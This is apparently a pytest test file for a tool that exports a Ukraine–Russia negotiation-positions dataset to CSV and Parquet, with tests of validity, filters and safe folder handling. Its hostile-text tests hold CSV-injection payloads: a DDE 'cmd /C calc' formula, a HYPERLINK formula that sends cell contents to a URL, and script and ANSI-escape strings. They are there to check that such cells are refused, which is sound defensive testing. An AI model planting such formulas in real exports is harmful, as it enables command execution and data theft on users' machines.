"""`tracker export`: every table read back as written (csv module, pyarrow), the data package
valid for frictionless, how positions moved, hostile text kept as text, and a folder that
appears whole or not at all."""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

import pytest

from conftest import GOOD_DATA, REPO, copy_round_as
from bundled_support import dataset as bundled_dataset

from tracker.cli import main
from tracker.export import TABLES, Selection, build_tables
from tracker.export.tables import LIST_SEPARATOR
from tracker.export.write import csv_cell
from tracker.loader import load_dataset

MAY, JUNE, JULY = "2025-05-16-istanbul", "2025-06-02-istanbul", "2025-07-01-istanbul"


@pytest.fixture
def export(data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]):
    """Run `tracker --data <copy> export ARGS`; returns (exit code, stderr)."""

    def run(*args: str) -> tuple[int, str]:
        code = main(["--data", str(data_dir), "export", *args])
        return code, capsys.readouterr().err

    return run


def _typed(column, text: str):
    """A CSV cell read back by its column's type, as the package descriptor says to read it."""
    if text == "":
        return None
    return {
        "string": str,
        "integer": int,
        "number": float,
        "date": dt.date.fromisoformat,
        "boolean": {"true": True, "false": False}.__getitem__,
    }[column.type](text)


def _expected(table, rows):
    """The rows as built, numbers as floats (a number column holds 60 and 2.5 alike)."""
    out = []
    for row in rows:
        out.append({
            c.name: float(row[c.name]) if c.type == "number" and row[c.name] is not None else row[c.name]
            for c in table.columns
        })  # fmt: skip
    return out


def _read_csv(path: Path, table) -> list[dict]:
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf"), "UTF-8 without a byte-order mark"
    with open(path, encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        assert reader.fieldnames == [c.name for c in table.columns]
        return [{c.name: _typed(c, row[c.name]) for c in table.columns} for row in reader]


EVENTS_YAML = """\
events:
  - id: exchange-2025-05-25
    date: 2025-05-23
    end_date: 2025-05-25
    kind: carried_out
    topic: prisoners
    parties: [ukraine, russia]
    summary: The exchange agreed in May, carried out over three days.
    under: {round: 2025-05-16-istanbul, position: exchange-1000}
    quantities:
      - {what: prisoners, value: 1000, per: side}
      - what: days
        claims:
          - {source: src-a, value: 3}
          - {source: src-b, min: 2, max: 3}
    evidence:
      - {source: src-a, speaker: A speaker, quote: exact words}
      - {source: src-b}
"""


def test_every_csv_table_reads_back_as_built(export, data_dir: Path, tmp_path: Path) -> None:
    (data_dir / "events.yaml").write_text(EVENTS_YAML, encoding="utf-8")  # the events' tables too
    code, err = export(str(tmp_path / "out"))
    assert code == 0, err
    built = build_tables(load_dataset(data_dir))
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted([f"{t.name}.csv" for t in TABLES] + ["datapackage.json"])
    for table in TABLES:
        assert built[table.name], f"{table.name}: the test data should give every table rows"
        assert _read_csv(tmp_path / "out" / f"{table.name}.csv", table) == _expected(table, built[table.name]), table.name
    # RFC 4180: CRLF line ends.
    assert (tmp_path / "out" / "topics.csv").read_bytes().count(b"\r\n") == len(built["topics"]) + 1


def test_every_parquet_table_reads_back_with_its_types(export, data_dir: Path, tmp_path: Path) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    import pyarrow as pa

    code, err = export("--format", "parquet", str(tmp_path / "out"))
    assert code == 0, err
    built = build_tables(load_dataset(data_dir))
    arrow = {"string": pa.string(), "date": pa.date32(), "number": pa.float64(), "integer": pa.int64(), "boolean": pa.bool_()}
    for table in TABLES:
        read = pq.read_table(tmp_path / "out" / f"{table.name}.parquet")
        assert [(f.name, f.type) for f in read.schema] == [(c.name, arrow[c.type]) for c in table.columns], table.name
        assert read.to_pylist() == _expected(table, built[table.name]), table.name


def test_the_csv_package_is_valid_and_its_checks_can_fail(export, tmp_path: Path) -> None:
    frictionless = pytest.importorskip("frictionless")
    out = tmp_path / "out"
    assert export(str(out))[0] == 0
    report = frictionless.validate(str(out / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    assert [t.name for t in report.tasks] == [t.name for t in TABLES]
    # A position filed under a topic the package does not have breaks a foreign key.
    text = (out / "positions.csv").read_text(encoding="utf-8")
    (out / "positions.csv").write_text(text.replace(",ceasefire,", ",no-such-topic,", 1), encoding="utf-8", newline="")
    broken = frictionless.validate(str(out / "datapackage.json"))
    assert not broken.valid
    assert "foreign-key" in {e.type for task in broken.tasks for e in task.errors}


def test_the_parquet_package_is_valid(export, tmp_path: Path) -> None:
    frictionless = pytest.importorskip("frictionless")
    pytest.importorskip("pyarrow")
    pytest.importorskip("pandas", reason="frictionless reads Parquet through pandas")
    out = tmp_path / "out"
    assert export("--format", "parquet", str(out))[0] == 0
    report = frictionless.validate(str(out / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


def test_pandas_reads_every_parquet_table_with_its_types(export, tmp_path: Path) -> None:
    pd = pytest.importorskip("pandas")
    pytest.importorskip("pyarrow")
    out = tmp_path / "out"
    assert export("--format", "parquet", str(out))[0] == 0
    positions = pd.read_parquet(out / "positions.parquet")
    assert str(positions["line"].dtype) == "int64" and str(positions["contested"].dtype) == "bool"
    assert isinstance(positions["date"].iloc[0], dt.date)
    figures = pd.read_parquet(out / "figures.parquet")
    assert str(figures["value"].dtype) == "float64"


def test_the_descriptor_describes_every_file_and_column(export, tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert export("--party", "russia", str(out))[0] == 0
    package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    assert package["name"] == "tracker-export" and package["version"]
    assert package["tracker"]["selection"] == {"rounds": [], "parties": ["russia"], "topics": []}
    for resource, table in zip(package["resources"], TABLES, strict=True):
        assert resource["path"] == f"{table.name}.csv"
        header = (out / resource["path"]).read_text(encoding="utf-8").splitlines()[0]
        assert [f["name"] for f in resource["schema"]["fields"]] == header.split(",")
        assert all(f["type"] in ("string", "integer", "number", "boolean", "date") and f["description"] for f in resource["schema"]["fields"])
    assert str(tmp_path) not in (out / "datapackage.json").read_text(encoding="utf-8")


# --- what the positions table says ----------------------------------------------------------------


def _positions(data_dir: Path, **selection) -> dict[tuple[str, str, str], dict]:
    rows = build_tables(load_dataset(data_dir), Selection(**selection))["positions"]
    return {(r["round"], r["party"], r["id"]): r for r in rows}


def test_movement_first_on_record_is_not_new(data_dir: Path) -> None:
    rows = _positions(data_dir)
    may = rows[(MAY, "russia", "ceasefire-preconditions")]
    assert (may["movement"], may["first_on_record"], may["new"], may["previous_round"]) == ("first_on_record", True, False, None)
    june = rows[(JUNE, "russia", "ceasefire-preconditions")]
    assert (june["movement"], june["first_on_record"], june["new"], june["previous_round"]) == ("unchanged", False, False, MAY)
    # First reported in June, with no date it was put forward: first on record, not new.
    local = rows[(JUNE, "russia", "local-ceasefire")]
    assert (local["movement"], local["first_on_record"], local["new"]) == ("first_on_record", True, False)
    assert any(r["movement"] == "changed" and r["changed_fields"] for r in rows.values())


def test_new_only_with_a_put_forward_date_after_the_previous_round(data_dir: Path) -> None:
    path = data_dir / "rounds" / JUNE / "russia.yaml"
    text = path.read_text()
    path.write_text(text.replace("    summary: Short local ceasefires", "    put_forward: 2025-05-30\n    summary: Short local ceasefires"))
    row = _positions(data_dir)[(JUNE, "russia", "local-ceasefire")]
    assert (row["new"], row["movement"], row["first_on_record"]) == (True, "new", True)
    path.write_text(text.replace("    summary: Short local ceasefires", "    put_forward: 2025-03-11\n    summary: Short local ceasefires"))
    row = _positions(data_dir)[(JUNE, "russia", "local-ceasefire")]
    assert (row["new"], row["first_on_record"], row["put_forward"]) == (False, True, dt.date(2025, 3, 11))


def test_a_position_back_after_a_gap_returned(data_dir: Path) -> None:
    july = copy_round_as(data_dir, JUNE, JULY)
    may = (data_dir / "rounds" / MAY / "ukraine.yaml").read_text()
    meeting = may[may.index("  - id: leaders-meeting") :].split("\n  - id:")[0].rstrip("\n") + "\n"
    (july / "ukraine.yaml").write_text((july / "ukraine.yaml").read_text().rstrip("\n") + "\n" + meeting)
    rows = _positions(data_dir, rounds=(JULY,))
    assert {r[0] for r in rows} == {JULY}, "--round keeps that round's rows only"
    back = rows[(JULY, "ukraine", "leaders-meeting")]
    assert (back["movement"], back["first_on_record"], back["new"], back["previous_round"]) == ("returned", False, False, MAY)


def test_filters_narrow_positions_and_what_belongs_to_them(export, data_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert export("--party", "RU", "--topic", "ceasefire", "--round", "2025-06-02", str(out))[0] == 0
    tables = {t.name: _read_csv(out / f"{t.name}.csv", t) for t in TABLES}
    assert tables["positions"] and {(r["round"], r["party"], r["topic"]) for r in tables["positions"]} == {(JUNE, "russia", "ceasefire")}
    assert {r["round"] for r in tables["rounds"]} == {JUNE}
    assert {r["party"] for r in tables["evidence"] if r["about"] == "position"} == {"russia"}
    assert tables["agreements"] == [], "joint agreements are the party `joint`, left out by --party russia"
    dataset = load_dataset(data_dir)
    assert len(tables["sources"]) == len(dataset.sources), "the catalogue is always whole"


DELEGATIONS = """delegations:
  - party: ukraine
    head: A. Head
    size:
      what: delegation members
      claims:
        - {source: src-a, value: 12, raw: 12 people}
        - {source: src-b, value: 14}
    evidence:
      - {source: src-a}
  - party: russia
    head: B. Head
    size: {what: delegation members, value: 11}
    evidence:
      - {source: src-b}
"""


def test_delegations_follow_the_party_filter_and_a_contested_size_is_no_one_number(data_dir: Path, tmp_path: Path) -> None:
    """`--party` keeps that party's delegations, their figures and evidence; a size the sources
    give differently has no `size` (the claims are in `figures`), its words still in `size_raw`."""
    round_file = data_dir / "rounds" / JUNE / "round.yaml"
    round_file.write_text(round_file.read_text(encoding="utf-8") + DELEGATIONS, encoding="utf-8")
    dataset = load_dataset(data_dir)
    everything = build_tables(dataset, Selection())
    by_party = {r["party"]: r for r in everything["delegations"] if r["round"] == JUNE}
    assert (by_party["russia"]["size"], by_party["ukraine"]["size"]) == (11, None)
    assert (by_party["ukraine"]["size_raw"], by_party["ukraine"]["size_sources"]) == ("12 people", LIST_SEPARATOR.join(["src-a", "src-b"]))
    russian = build_tables(dataset, Selection(parties=("russia",)))
    assert {r["party"] for r in everything["delegations"]} == {"russia", "ukraine"}
    assert [(r["round"], r["party"]) for r in russian["delegations"]] == [(MAY, "russia"), (JUNE, "russia")]
    for table in ("figures", "evidence"):
        about = {(r["about"], r["party"]) for r in russian[table] if r["about"] == "delegation"}
        assert about == {("delegation", "russia")}, table


def test_each_position_row_names_its_file_and_the_line_it_starts_on(data_dir: Path) -> None:
    """`file` relative to the data folder, with `/`, and `line` the 1-based line of its `- id:`."""
    rows = build_tables(load_dataset(data_dir), Selection())["positions"]
    assert rows
    for row in rows:
        name = "round.yaml" if row["party"] == "joint" else f"{row['party']}.yaml"
        assert row["file"] == f"rounds/{row['round']}/{name}"
        lines = (data_dir / row["file"]).read_text(encoding="utf-8").splitlines()
        assert lines[row["line"] - 1].strip() == f"- id: {row['id']}", row


@pytest.mark.parametrize(
    ("option", "name", "column", "kept"),
    [("--topic", "ceasefire", "topic", "ceasefire"), ("--party", "UA", "party", "ukraine"), ("--round", "2025-05", "round", MAY)],
)
def test_each_filter_alone_narrows_the_positions(export, tmp_path: Path, option: str, name: str, column: str, kept: str) -> None:
    """Each filter on its own, on data where it leaves something out: the whole export has rows
    it drops."""
    assert export(str(tmp_path / "all"))[0] == 0
    assert export(option, name, str(tmp_path / "some"))[0] == 0
    table = next(t for t in TABLES if t.name == "positions")
    everything = _read_csv(tmp_path / "all" / "positions.csv", table)
    some = _read_csv(tmp_path / "some" / "positions.csv", table)
    assert {r[column] for r in everything} > {kept}, "the filter has rows to leave out"
    assert some == [r for r in everything if r[column] == kept]


def test_figures_claims_and_citations_are_numbered_from_1() -> None:
    """As the codebook says: each subject's figures, a figure's claims and a subject's citations
    count 1, 2, … in the order the data gives them (the bundled data has more than one of each)."""
    dataset = bundled_dataset()
    tables = build_tables(dataset, Selection())
    figures: dict[tuple, list[int]] = {}
    claims: dict[tuple, list[int]] = {}
    citations: dict[tuple, list[int]] = {}
    for row in tables["figures"]:
        subject = (row["round"], row["about"], row["party"], row["id"])
        if row["claim"] == 1:
            figures.setdefault(subject, []).append(row["figure"])
        claims.setdefault((*subject, row["figure"]), []).append(row["claim"])
    for row in tables["evidence"]:
        citations.setdefault((row["round"], row["about"], row["party"], row["id"]), []).append(row["citation"])
    assert any(len(n) > 1 for n in claims.values()), "a contested figure, with claims to number"
    assert any(len(n) > 1 for n in citations.values()) and any(len(n) > 1 for n in figures.values())
    for numbers in (*figures.values(), *claims.values(), *citations.values()):
        assert numbers == list(range(1, len(numbers) + 1))
    # Numbered in the data's order: citation n is the position's n-th evidence, claim n its n-th claim.
    positions = {(p.round, p.party, p.id): p for data in dataset.rounds.values() for p in data.positions}
    cited = {(r["round"], r["party"], r["id"], r["citation"]): r["source"] for r in tables["evidence"] if r["about"] == "position"}
    claimed = {(r["round"], r["party"], r["id"], r["figure"], r["claim"]): r["source"] for r in tables["figures"] if r["about"] == "position" and r["contested"]}
    assert any(len(p.evidence) > 1 and len({e.source for e in p.evidence}) > 1 for p in positions.values())
    assert cited and claimed
    for (round_id, party, position_id, number), source in cited.items():
        assert positions[round_id, party, position_id].evidence[number - 1].source == source
    for (round_id, party, position_id, figure, number), source in claimed.items():
        assert positions[round_id, party, position_id].quantities[figure - 1].claims[number - 1].source == source


def test_a_reference_within_its_round_and_party_is_made_explicit(data_dir: Path) -> None:
    """`conditions: [{position: ceasefire-preconditions}]` in Russia's June file means Russia's,
    at June: the row says so, so a reader joins it without knowing the rule."""
    [row] = build_tables(load_dataset(data_dir), Selection())["relations"]
    assert row == {
        "round": JUNE, "party": "russia", "id": "local-ceasefire", "relation": "condition", "text": None,
        "target_round": JUNE, "target_party": "russia", "target_id": "ceasefire-preconditions",
    }  # fmt: skip


def test_all_is_true_only_for_a_figure_that_counts_everyone() -> None:
    rows = build_tables(bundled_dataset(), Selection())["figures"]
    every = [r for r in rows if r["all"]]
    assert every and len(every) < len(rows)
    assert all(r["value"] is None and r["min"] is None and r["max"] is None for r in every)  # 'all-for-all', no number
    assert all(r["all"] is False for r in rows if r["value"] is not None)


def test_unknown_names_exit_2(export, tmp_path: Path) -> None:
    code, err = export("--party", "narnia", str(tmp_path / "out"))
    assert code == 2 and "unknown party 'narnia'" in err
    code, err = export("--round", "1999", str(tmp_path / "out"))
    assert code == 2 and "no round '1999'" in err
    assert not (tmp_path / "out").exists()


# --- hostile text ------------------------------------------------------------------------------

HOSTILE = 'Says "no", then =HYPERLINK("x"); <script>alert(1)</script> \x1b[31mred\x1b[0m, a\nline'


def test_hostile_text_round_trips_exactly(export, data_dir: Path, tmp_path: Path) -> None:
    path = data_dir / "rounds" / JUNE / "russia.yaml"
    escaped = json.dumps(HOSTILE)  # a YAML double-quoted scalar reads JSON escapes
    path.write_text(path.read_text().replace("summary: Short local ceasefires to collect the dead.", f"summary: {escaped}"))
    assert export(str(tmp_path / "csv"))[0] == 0
    table = TABLES[0]
    summaries = [r["summary"] for r in _read_csv(tmp_path / "csv" / "positions.csv", table)]
    assert HOSTILE in summaries
    pq = pytest.importorskip("pyarrow.parquet")
    assert export("--format", "parquet", str(tmp_path / "pq"))[0] == 0
    assert HOSTILE in pq.read_table(tmp_path / "pq" / "positions.parquet").column("summary").to_pylist()


@pytest.mark.parametrize("formula", ['=HYPERLINK("https://example.org/?q="&C2&D2,"see source")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1"])
def test_a_text_a_spreadsheet_would_run_as_a_formula_is_refused_at_its_line(export, data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], formula: str) -> None:
    """OWASP's rule for CSV injection, kept in the data rather than the export: what pandas reads
    is the data itself, and no cell begins with = + - @."""
    path = data_dir / "rounds" / JUNE / "russia.yaml"
    text = path.read_text()
    assert "summary: Short local ceasefires to collect the dead." in text
    path.write_text(text.replace("summary: Short local ceasefires to collect the dead.", f"summary: {json.dumps(formula)}"))
    code, err = export(str(tmp_path / "csv"))
    assert code == 2
    assert "russia.yaml:11:14: error: positions[1].summary: " in err
    assert f"begins with {formula.strip()[0]!r}: a spreadsheet opening the CSV export would run it as a formula" in err
    assert not (tmp_path / "csv").exists()
    assert main(["--data", str(data_dir), "validate"]) == 1
    capsys.readouterr()


def test_csv_cells() -> None:
    assert [csv_cell(v) for v in (None, True, False, 60, 60.0, 2.5, dt.date(2025, 6, 2), "a")] == [
        "", "true", "false", "60", "60", "2.5", "2025-06-02", "a",
    ]  # fmt: skip


# --- the folder --------------------------------------------------------------------------------


def test_a_non_empty_folder_is_never_written_into(export, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    code, err = export(str(out))
    assert code == 1 and "out is not empty (notes.txt)" in err and "--force" in err
    code, err = export("--force", str(out))
    assert code == 1 and "not an earlier export (notes.txt)" in err
    assert sorted(p.name for p in out.iterdir()) == ["notes.txt"] and (out / "notes.txt").read_text() == "mine"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["out", "positions"]), "nothing left beside it"


def test_a_non_empty_folder_is_named_by_three_of_its_files_and_a_count_of_the_rest(export, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    for name in ("a.txt", "b.txt", "c.txt"):
        (out / name).write_text("mine")
    code, err = export(str(out))
    assert code == 1 and "out is not empty (a.txt, b.txt, c.txt):" in err
    (out / "d.txt").write_text("mine")
    code, err = export(str(out))
    assert code == 1 and "out is not empty (a.txt, b.txt, c.txt and 1 more):" in err


def test_force_replaces_an_earlier_export_and_only_that(export, tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert export("--format", "parquet", str(out))[0] == 0
    code, err = export(str(out))
    assert code == 1 and "not empty" in err
    assert export("--force", str(out))[0] == 0
    assert sorted(p.name for p in out.iterdir()) == sorted([f"{t.name}.csv" for t in TABLES] + ["datapackage.json"])
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["out", "positions"]), "no staging or old folder left"
    (out / "extra.txt").write_text("mine")
    assert export("--force", str(out))[0] == 1 and (out / "extra.txt").exists()


def test_force_never_trusts_a_datapackage_it_did_not_write(export, tmp_path: Path) -> None:
    """A forged datapackage.json listing a file of one's own does not make --force remove it."""
    out = tmp_path / "out"
    assert export(str(out))[0] == 0
    package = json.loads((out / "datapackage.json").read_text())
    package["resources"].append({"name": "report", "path": "report.docx"})
    (out / "datapackage.json").write_text(json.dumps(package))
    (out / "report.docx").write_text("a week of work")
    code, err = export("--force", str(out))
    assert code == 1 and "not an earlier export (report.docx)" in err
    assert (out / "report.docx").read_text() == "a week of work"


def test_force_never_takes_another_packages_datapackage_for_an_earlier_export(export, tmp_path: Path) -> None:
    """Another tool's package, even with a `tracker` key and a table named like one of ours, is
    someone's own: only a datapackage.json named as the export names its package is ours."""
    out = tmp_path / "out"
    out.mkdir()
    (out / "datapackage.json").write_text(json.dumps({"name": "city-budgets", "tracker": {}, "resources": []}))
    (out / "positions.csv").write_text("my own table")
    code, err = export("--force", str(out))
    assert code == 1 and "not an earlier export (datapackage.json, positions.csv)" in err
    assert (out / "positions.csv").read_text() == "my own table"


def test_force_never_takes_a_link_named_like_an_export_file_for_one(export, tmp_path: Path) -> None:
    """Only regular files are an earlier export's: a link in their place is someone's own."""
    out = tmp_path / "out"
    assert export(str(out))[0] == 0
    mine = tmp_path / "mine.csv"
    mine.write_text("my own table")
    (out / "positions.csv").unlink()
    (out / "positions.csv").symlink_to(mine)
    code, err = export("--force", str(out))
    assert code == 1 and "not an earlier export (positions.csv)" in err
    assert (out / "positions.csv").is_symlink() and mine.read_text() == "my own table"


def test_force_through_a_link_replaces_the_export_behind_it(export, tmp_path: Path) -> None:
    real = tmp_path / "exports" / "real"
    real.parent.mkdir()
    link = tmp_path / "out"
    link.symlink_to(real)
    assert export(str(link))[0] == 0
    assert export("--force", str(link))[0] == 0
    assert link.is_symlink() and (real / "positions.csv").is_file()
    assert not [p.name for p in [*tmp_path.iterdir(), *real.parent.iterdir()] if p.name.startswith(".")]


def test_a_staging_folder_left_by_a_killed_export_is_removed_by_the_next(export, tmp_path: Path) -> None:
    """kill -9 during an export leaves its hidden folder; the next export beside it removes it,
    but never one a live export holds (under its lock) or one made in the last minute."""
    import fcntl
    import os

    old = 1_000_000_000  # long ago
    left = tmp_path / ".out.abcd1234.partial"
    held = tmp_path / ".out.efgh5678.partial"
    fresh = tmp_path / ".out.ijkl9012.partial"
    mine = tmp_path / ".out.notes"  # a hidden folder of one's own
    for folder in (left, held, fresh, mine):
        folder.mkdir()
        (folder / "positions.csv").write_text("x")
    for folder in (left, held, mine):
        os.utime(folder, (old, old))
    fd = os.open(held, os.O_RDONLY)
    fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
    try:
        assert export(str(tmp_path / "out"))[0] == 0
    finally:
        os.close(fd)
    assert not left.exists()
    assert held.exists() and fresh.exists() and mine.exists()


def test_an_empty_folder_and_missing_parents(export, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    assert export(str(tmp_path / "empty"))[0] == 0 and (tmp_path / "empty" / "datapackage.json").is_file()
    assert export(str(tmp_path / "a" / "b"))[0] == 0 and (tmp_path / "a" / "b" / "positions.csv").is_file()
    (tmp_path / "file").write_text("x")
    code, err = export(str(tmp_path / "file"))
    assert code == 1 and "is a file" in err


def test_a_failed_write_leaves_nothing(export, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from tracker.export import write

    calls = []

    def disk_full(table, rows, path):
        calls.append(table.name)
        if len(calls) == 3:
            raise OSError(28, "No space left on device")
        path.write_text("partial")

    monkeypatch.setattr(write, "write_csv", disk_full)
    code, err = export(str(tmp_path / "out"))
    assert code == 1 and "No space left on device" in err and "nothing was written" in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["positions"]


# --- docs and layering -------------------------------------------------------------------------


def test_export_codebook_is_in_sync() -> None:
    from tracker.export.codebook import render_export_codebook

    assert (REPO / "docs" / "export.md").read_text(encoding="utf-8") == render_export_codebook(), (
        "docs/export.md is out of date: run `tracker export --codebook > docs/export.md`"
    )
    text = render_export_codebook()
    for table in TABLES:
        assert f"## {table.name}\n" in text and all(f"| `{c.name}` |" in text for c in table.columns)


def test_export_imports_neither_textual_nor_pyarrow_for_csv(tmp_path: Path) -> None:
    import subprocess
    import sys

    code = (
        "import sys\nfrom tracker.cli import main\n"
        f"assert main(['--data', {str(GOOD_DATA)!r}, 'export', {str(tmp_path / 'out')!r}]) == 0\n"
        "print(sorted({m.split('.')[0] for m in sys.modules} & {'textual', 'pyarrow', 'frictionless'}))\n"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, env={"TRACKER_NO_CACHE": "1", "PATH": ""})
    assert out.stdout.splitlines()[-1] == "[]"


def test_the_package_is_titled_by_its_span_and_a_span_of_one_day_by_that_day(
    export, data_dir: Path, tmp_path: Path
) -> None:
    import shutil

    def title(folder: str) -> str:
        assert export(str(tmp_path / folder))[0] == 0
        return json.loads((tmp_path / folder / "datapackage.json").read_text(encoding="utf-8"))["title"]

    assert title("two") == "Positions by round, 2025-05-16 to 2025-06-02"
    shutil.rmtree(data_dir / "rounds" / JUNE)
    assert title("one") == "Positions by round, 2025-05-16"
